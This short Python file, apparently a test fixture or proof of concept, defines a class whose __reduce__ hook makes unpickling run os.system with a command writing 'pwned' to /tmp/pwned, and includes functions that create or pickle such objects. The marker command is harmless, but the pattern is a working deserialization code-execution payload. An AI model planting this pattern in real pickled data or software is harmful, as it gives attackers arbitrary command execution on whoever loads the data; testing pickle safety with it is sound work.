import os, pickle


class Run:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned",))


def double(x):
    return pickle.dumps(Run())


answer = Run()


def three():
    return Run()
